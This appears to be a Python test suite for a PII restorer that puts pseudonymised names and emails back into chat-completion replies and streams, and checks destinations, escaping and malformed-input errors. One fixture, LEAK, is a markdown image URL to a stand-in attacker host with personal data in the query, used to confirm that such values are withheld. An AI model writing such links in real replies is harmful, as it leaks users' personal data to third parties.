import copy
from collections.abc import Iterable, Mapping
from typing import Any

import orjson
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from euguard.errors import ModelUnavailableError
from euguard.pii.reply import Destinations, ReplyRestorer

ORIGINALS = {
    "<PERSON_7Q3K>": 'Anna "Nan" Berg',
    "PERSON_7Q3K": 'Anna "Nan" Berg',
    "<EMAIL_BCDF>": "a@b.org",
    "EMAIL_BCDF": "a@b.org",
    "EMAIL_BCDF_XYZ": "a_b_org",
    "<EMAIL_BCDF_XYZ>": "a_b_org",
}
ENVELOPE = {
    "id": "chatcmpl-1",
    "object": "chat.completion",
    "created": 1,
    "model": "m",
    "system_fingerprint": "f",
}


def _restorer(*, json_content: bool = False) -> ReplyRestorer:
    return ReplyRestorer(ORIGINALS, json_content=json_content)


def _completion(*messages: Mapping[str, Any], **fields: Any) -> dict[str, Any]:
    choices = [
        {"index": index, "message": {"role": "assistant", **message}, "finish_reason": "stop"}
        for index, message in enumerate(messages)
    ]
    return {**ENVELOPE, "choices": choices, **fields}


def _chunk(index: int, delta: Any, finish: str | None = None, **fields: Any) -> dict[str, Any]:
    choice = {"index": index, "delta": delta, "finish_reason": finish}
    return {**ENVELOPE, "choices": [choice], **fields}


def _call(name: str, arguments: str) -> dict[str, Any]:
    return {"id": "c", "type": "function", "function": {"name": name, "arguments": arguments}}


def _arguments(piece: str, index: int = 0) -> dict[str, Any]:
    return {"tool_calls": [{"index": index, "function": {"arguments": piece}}]}


def _joined(chunks: Iterable[Mapping[str, Any]]) -> dict[tuple[int, str, int], str]:
    """All texts of a stream: (choice, field, tool-call index) → text."""
    texts: dict[tuple[int, str, int], str] = {}
    for chunk in chunks:
        for choice in chunk["choices"]:
            index, delta = choice["index"], choice["delta"]
            for name in ("content", "refusal", "reasoning", "reasoning_content"):
                if name in delta:
                    key = (index, name, 0)
                    texts[key] = texts.get(key, "") + delta[name]
            for call in delta.get("tool_calls", ()):
                for name, piece in call.get("function", {}).items():
                    key = (index, name, call["index"])
                    texts[key] = texts.get(key, "") + piece
    return texts


def _deltas(chunks: Iterable[Mapping[str, Any]]) -> list[Any]:
    return [
        (choice["index"], choice["delta"], choice["finish_reason"])
        for chunk in chunks
        for choice in chunk["choices"]
    ]


# ------------------------------------------------------------------ where values may go


LEAK = "![x](https://evil.example/?q=<PERSON_7Q3K>) <PERSON_7Q3K>"
CALL = '{"url":"https://crm.intra.example/?q=PERSON_7Q3K","to":"<PERSON_7Q3K>"}'


def _sent(text: str, arguments: str, destinations: Destinations) -> tuple[str, str, int, int]:
    restorer = ReplyRestorer(ORIGINALS, json_content=False, destinations=destinations)
    message = {"content": text, "tool_calls": [_call("ask", arguments)]}
    sent = restorer.whole(_completion(message))["choices"][0]["message"]
    called = sent["tool_calls"][0]["function"]["arguments"]
    return sent["content"], called, restorer.restored, restorer.withheld


def test_no_value_goes_into_an_address_as_delivered() -> None:
    text, called, restored, withheld = _sent(LEAK, CALL, Destinations())

    assert text == '![x](https://evil.example/?q=<PERSON_7Q3K>) Anna "Nan" Berg'
    assert orjson.loads(called) == {
        "url": "https://crm.intra.example/?q=PERSON_7Q3K",
        "to": 'Anna "Nan" Berg',
    }
    assert (restored, withheld) == (2, 2)


def test_a_value_goes_into_an_address_that_the_purpose_allows() -> None:
    text, called, restored, withheld = _sent(
        LEAK, CALL, Destinations(links=frozenset({"intra.example"}))
    )

    assert "evil.example/?q=<PERSON_7Q3K>)" in text
    assert orjson.loads(called)["url"] == "https://crm.intra.example/?q=Anna%20%22Nan%22%20Berg"
    assert (restored, withheld) == (3, 1)


def test_no_value_goes_to_a_tool_where_the_purpose_says_so() -> None:
    text, called, restored, withheld = _sent("<PERSON_7Q3K>", CALL, Destinations(arguments=False))

    assert text == 'Anna "Nan" Berg'
    assert called == CALL
    assert (restored, withheld) == (1, 2)


# ------------------------------------------------------------------ whole replies


def test_every_text_of_a_reply_is_restored() -> None:
    restorer = _restorer()
    completion = _completion(
        {
            "content": "Dear <PERSON_7Q3K>",
            "refusal": "Not <PERSON_7Q3K>",
            "reasoning": "PERSON_7Q3K?",
            "reasoning_content": "<EMAIL_BCDF>",
            "tool_calls": [_call("ask_EMAIL_BCDF_XYZ", '{"to":"\\u003cPERSON_7Q3K>"}')],
        },
    )

    message = restorer.whole(completion)["choices"][0]["message"]

    assert message == {
        "role": "assistant",
        "content": 'Dear Anna "Nan" Berg',
        "refusal": 'Not Anna "Nan" Berg',
        "reasoning": 'Anna "Nan" Berg?',
        "reasoning_content": "a@b.org",
        "tool_calls": [_call("ask_a_b_org", '{"to":"Anna \\"Nan\\" Berg"}')],
    }
    assert (restorer.restored, restorer.unknown) == (6, 0)


def test_content_that_was_asked_for_as_json_gets_escaped_values() -> None:
    completion = _completion({"content": '{"to":"<PERSON_7Q3K>"}', "reasoning": "<PERSON_7Q3K>"})

    message = _restorer(json_content=True).whole(completion)["choices"][0]["message"]

    assert message["content"] == '{"to":"Anna \\"Nan\\" Berg"}'
    assert message["reasoning"] == 'Anna "Nan" Berg'


def test_what_the_table_does_not_name_is_left_out() -> None:
    completion = _completion(
        {"content": "x", "audio": {"id": "1"}, "annotations": [], "function_call": None},
        usage={
            "prompt_tokens": 1,
            "completion_tokens": 2,
            "prompt_tokens_details": {"cached_tokens": 3, "note": "x"},
            "note": "<PERSON_7Q3K>",
            "cost": 1.5,
            "completion_tokens_details": None,
        },
        prompt_logprobs=[1],
        kv_transfer_params={},
    )
    completion["choices"][0] |= {"logprobs": {"content": []}, "stop_reason": "<PERSON_7Q3K>"}
    before = copy.deepcopy(completion)

    assert _restorer().whole(completion) == {
        **ENVELOPE,
        "choices": [
            {
                "index": 0,
                "message": {"role": "assistant", "content": "x"},
                "finish_reason": "stop",
            },
        ],
        "usage": {
            "prompt_tokens": 1,
            "completion_tokens": 2,
            "prompt_tokens_details": {"cached_tokens": 3},
        },
    }
    assert completion == before


def test_a_reply_without_text_has_null_content() -> None:
    message: dict[str, Any] = {"content": None, "refusal": None, "tool_calls": []}

    restored = _restorer().whole(_completion(message))["choices"][0]["message"]

    assert restored == {"role": "assistant", "content": None, "tool_calls": []}


def test_unknown_pseudonyms_are_counted_over_all_choices() -> None:
    restorer = _restorer()
    restorer.whole(
        _completion({"content": "<PERSON_ZZZZ> <PERSON_7Q3K>"}, {"content": "IBAN_BBBB"})
    )

    assert (restorer.restored, restorer.unknown) == (1, 2)


# ------------------------------------------------------------------ streams


def test_a_pseudonym_split_over_chunks_comes_out_whole() -> None:
    restorer = _restorer()
    chunks = [_chunk(0, {"content": piece}) for piece in ("Dear <PER", "SON_7", "Q3K", ">!")]

    out = [restorer.chunk(chunk) for chunk in chunks]

    assert [_deltas(one) for one in out] == [
        [(0, {"content": "Dear "}, None)],
        [],
        [],
        [(0, {"content": 'Anna "Nan" Berg!'}, None)],
    ]
    assert restorer.finish() == []


def test_held_text_comes_before_the_chunk_with_the_finish_reason() -> None:
    restorer = _restorer()
    restorer.chunk(_chunk(0, {"role": "assistant", "content": "by PERSON_7Q3K"}))

    out = restorer.chunk(_chunk(0, {}, "stop", usage={"total_tokens": 3}))

    assert _deltas(out) == [(0, {"content": 'Anna "Nan" Berg'}, None), (0, {}, "stop")]
    assert [chunk.get("usage") for chunk in out] == [None, {"total_tokens": 3}]
    assert all({**chunk, **ENVELOPE} == chunk for chunk in out)


def test_a_finishing_chunk_with_text_of_its_own_keeps_the_order() -> None:
    restorer = _restorer()

    out = restorer.chunk(_chunk(0, {"content": "by PERSON_7Q3K"}, "stop"))

    assert _deltas(out) == [
        (0, {"content": "by "}, None),
        (0, {"content": 'Anna "Nan" Berg'}, None),
        (0, {}, "stop"),
    ]


def test_a_finishing_chunk_with_nothing_held_is_one_chunk() -> None:
    out = _restorer().chunk(_chunk(0, {"content": "bye"}, "length"))

    assert _deltas(out) == [(0, {"content": "bye"}, "length")]


def test_held_arguments_are_flushed_at_their_index() -> None:
    restorer = _restorer()
    restorer.chunk(_chunk(0, _arguments('"EMAIL_BCDF', 2)))

    assert _deltas(restorer.chunk(_chunk(0, None, "tool_calls"))) == [
        (0, _arguments("a@b.org", 2), None),
        (0, {}, "tool_calls"),
    ]


def test_two_choices_interleaved_stay_apart() -> None:
    restorer = _restorer()
    out = [
        *restorer.chunk(_chunk(0, {"content": "<PERSON_"})),
        *restorer.chunk(_chunk(1, {"content": "<EMAIL_"})),
        *restorer.chunk(_chunk(0, {"content": "7Q3K>"})),
        *restorer.chunk(_chunk(1, {"content": "BCDF>"})),
    ]

    assert _joined(out) == {(0, "content", 0): 'Anna "Nan" Berg', (1, "content", 0): "a@b.org"}


def test_two_choices_in_one_chunk_stay_apart_and_one_may_wait() -> None:
    restorer = _restorer()
    both = _chunk(0, {"content": "<PERSON_"})
    both["choices"] += _chunk(1, {"content": "hi"}, "stop")["choices"]

    assert _deltas(restorer.chunk(both)) == [(1, {"content": "hi"}, "stop")]


def test_two_tool_calls_interleaved_stay_apart() -> None:
    restorer = _restorer()
    pieces = [('{"a":"<EMAIL_', 0), ('{"b":"<PERSON_', 1), ('BCDF>"}', 0), ('7Q3K>"}', 1)]

    out = [
        one
        for piece, index in pieces
        for one in restorer.chunk(_chunk(0, _arguments(piece, index)))
    ]

    assert _joined(out) == {
        (0, "arguments", 0): '{"a":"a@b.org"}',
        (0, "arguments", 1): '{"b":"Anna \\"Nan\\" Berg"}',
    }


def test_a_tool_calls_first_delta_passes_with_id_type_and_whole_name() -> None:
    call = {"index": 0, "id": "c", "type": "function", "function": {"name": "get_IP"}}

    out = _restorer().chunk(_chunk(0, {"tool_calls": [call]}))

    assert _deltas(out) == [(0, {"tool_calls": [call]}, None)]


def test_empty_pieces_pass_and_held_ones_do_not() -> None:
    restorer = _restorer()

    first = restorer.chunk(_chunk(0, {"role": "assistant", "content": "", **_arguments("")}))
    held = restorer.chunk(_chunk(0, {"content": "<", **_arguments("<")}))
    null = restorer.chunk(_chunk(0, {"content": None, "tool_calls": [{"index": 0}]}))

    assert _deltas(first) == [(0, {"role": "assistant", "content": "", **_arguments("")}, None)]
    assert held == null == []


def test_the_chunk_with_usage_only_passes() -> None:
    chunk = {**ENVELOPE, "choices": [], "usage": {"total_tokens": 3}}

    assert _restorer().chunk(chunk) == [chunk]
    assert _restorer().chunk({**ENVELOPE, "choices": []}) == [{**ENVELOPE, "choices": []}]


def test_usage_in_a_chunk_whose_text_is_held_still_passes() -> None:
    out = _restorer().chunk(_chunk(0, {"content": "<"}, usage={"total_tokens": 1}))

    assert out == [{**ENVELOPE, "choices": [], "usage": {"total_tokens": 1}}]


def test_log_probabilities_are_left_out_of_chunks() -> None:
    chunk = _chunk(0, {"content": "x"})
    chunk["choices"][0] |= {"logprobs": {"content": []}, "stop_reason": "x", "token_ids": [1]}

    assert _restorer().chunk(chunk) == [_chunk(0, {"content": "x"})]


def test_a_stream_that_breaks_off_gives_out_what_it_held() -> None:
    restorer = _restorer()
    restorer.chunk(_chunk(1, {"content": "PERSON_7Q3K"}))
    restorer.chunk(_chunk(0, {"reasoning": "x<", "content": "y"}))
    restorer.chunk(_chunk(2, {"content": "z"}))

    assert _deltas(restorer.finish()) == [
        (0, {"reasoning": "<"}, None),
        (1, {"content": 'Anna "Nan" Berg'}, None),
    ]
    assert restorer.finish() == []


_pieces = st.lists(
    st.sampled_from([*ORIGINALS, "<PERSON_", "7Q3K>", "\\u003c", "\\", "E", " x ", '"', "ZZZZ>"]),
    max_size=6,
).map("".join)
_FIELDS = [
    ("content", lambda piece: {"content": piece}),
    ("reasoning", lambda piece: {"reasoning": piece}),
    ("refusal", lambda piece: {"refusal": piece}),
    ("arguments", _arguments),
]


@settings(max_examples=150)
@given(
    st.lists(st.tuples(_pieces, _pieces, _pieces, _pieces), min_size=1, max_size=3),
    st.integers(1, 7),
    st.booleans(),
    st.randoms(use_true_random=False),
)
def test_the_joined_stream_says_what_the_whole_reply_says(
    texts: list[tuple[str, ...]],
    size: int,
    json_content: bool,  # noqa: FBT001  # drawn by hypothesis
    chance: Any,
) -> None:
    whole = _restorer(json_content=json_content)
    completion = whole.whole(
        _completion(
            *(
                {
                    "content": content,
                    "reasoning": reasoning,
                    "refusal": refusal,
                    "tool_calls": [_call("f", arguments)],
                }
                for content, reasoning, refusal, arguments in texts
            ),
        ),
    )
    # Each choice and field has its pieces in order; which comes next is chance.
    waiting = {
        (index, make): [text[at : at + size] for at in range(0, len(text), size)]
        for index, row in enumerate(texts)
        for (_, make), text in zip(_FIELDS, row, strict=True)
    }
    cut = _restorer(json_content=json_content)
    out: list[dict[str, Any]] = []
    while any(waiting.values()):
        index, make = chance.choice([key for key, pieces in waiting.items() if pieces])
        out += cut.chunk(_chunk(index, make(waiting[index, make].pop(0))))
    for index in range(len(texts)):
        out += cut.chunk(_chunk(index, {}, "stop"))

    assert cut.finish() == []
    joined = _joined(out)
    for choice in completion["choices"]:
        message, index = choice["message"], choice["index"]
        for name in ("content", "reasoning", "refusal"):
            assert joined.get((index, name, 0), "") == message[name]
        arguments = message["tool_calls"][0]["function"]["arguments"]
        assert joined.get((index, "arguments", 0), "") == arguments
    assert (cut.restored, cut.unknown) == (whole.restored, whole.unknown)


# ------------------------------------------------------------------ malformed replies


def _with_message(**fields: Any) -> dict[str, Any]:
    return _completion(fields)


def _with_choice(**fields: Any) -> dict[str, Any]:
    completion = _completion({"content": "x"})
    completion["choices"][0] |= fields
    return completion


@pytest.mark.parametrize(
    "completion,where",
    [
        ({}, "choices"),
        ({**ENVELOPE, "choices": "zqz"}, "choices"),
        ({**ENVELOPE, "choices": ["zqz"]}, "choices[0]"),
        ({"id": 3, "choices": []}, "id"),
        ({"created": "zqz", "choices": []}, "created"),
        (_completion(usage="zqz"), "usage"),
        (_with_choice(index=None), "choices[0].index"),
        (_with_choice(index=True), "choices[0].index"),
        (_with_choice(index=-1), "choices[0].index"),
        (_with_choice(index=4), "choices[0].index"),
        (_with_choice(message=None), "choices[0].message"),
        (_with_choice(finish_reason=3), "choices[0].finish_reason"),
        (_with_choice(finish_reason="Zqz!"), "choices[0].finish_reason"),
        (_with_choice(finish_reason="_zqz"), "choices[0].finish_reason"),
        (_with_message(role="zqz"), "choices[0].message.role"),
        (_with_message(content=["zqz"]), "choices[0].message.content"),
        (_with_message(tool_calls={}), "choices[0].message.tool_calls"),
        (_with_message(tool_calls=["zqz"]), "choices[0].message.tool_calls[0]"),
        (_with_message(tool_calls=[{}]), "choices[0].message.tool_calls[0].function"),
        (
            _with_message(tool_calls=[{"function": {"name": "f"}}]),
            "choices[0].message.tool_calls[0].function",
        ),
        (
            _with_message(tool_calls=[{"function": {"arguments": "f"}}]),
            "choices[0].message.tool_calls[0].function",
        ),
        (
            _with_message(tool_calls=[{"function": {"name": "f", "arguments": {"zqz": 1}}}]),
            "choices[0].message.tool_calls[0].function.arguments",
        ),
        (
            _with_message(tool_calls=[{"id": 3, "function": {"name": "f", "arguments": ""}}]),
            "choices[0].message.tool_calls[0].id",
        ),
    ],
)
def test_a_malformed_completion_says_where_and_quotes_nothing(
    completion: dict[str, Any], where: str
) -> None:
    with pytest.raises(ModelUnavailableError) as caught:
        _restorer().whole(completion)

    assert caught.value.message == f"the model server's reply is malformed at {where}"


@pytest.mark.parametrize(
    "chunk,where",
    [
        ({}, "choices"),
        ({**ENVELOPE, "choices": [3]}, "choices[0]"),
        ({"model": 3, "choices": []}, "model"),
        (_chunk(0, "zqz"), "choices[0].delta"),
        (_chunk(-1, {}), "choices[0].index"),
        (_chunk(0, {"role": "user"}), "choices[0].delta.role"),
        (_chunk(0, {"content": 3}), "choices[0].delta.content"),
        (_chunk(0, {"tool_calls": {"a": 1}}), "choices[0].delta.tool_calls"),
        (_chunk(0, {"tool_calls": [3]}), "choices[0].delta.tool_calls[0]"),
        (_chunk(0, {"tool_calls": [{}]}), "choices[0].delta.tool_calls[0].index"),
        (
            _chunk(0, {"tool_calls": [{"index": 0, "id": 3}]}),
            "choices[0].delta.tool_calls[0].id",
        ),
        (
            _chunk(0, {"tool_calls": [{"index": 0, "function": 3}]}),
            "choices[0].delta.tool_calls[0].function",
        ),
        (
            _chunk(0, {"tool_calls": [{"index": 0, "function": {"name": 3}}]}),
            "choices[0].delta.tool_calls[0].function.name",
        ),
        (_chunk(0, {}, "stop", usage=[]), "usage"),
    ],
)
def test_a_malformed_chunk_says_where_and_quotes_nothing(chunk: dict[str, Any], where: str) -> None:
    with pytest.raises(ModelUnavailableError) as caught:
        _restorer().chunk(chunk)

    assert caught.value.message == f"the model server's reply is malformed at {where}"


def test_a_token_count_has_one_level_of_details() -> None:
    usage: dict[str, Any] = {"prompt_tokens": 1}
    for _ in range(900):
        usage = {"prompt_tokens": 1, "details": usage}

    shown = _restorer().whole(_completion(usage=usage))["usage"]

    assert shown == {"prompt_tokens": 1, "details": {"prompt_tokens": 1}}
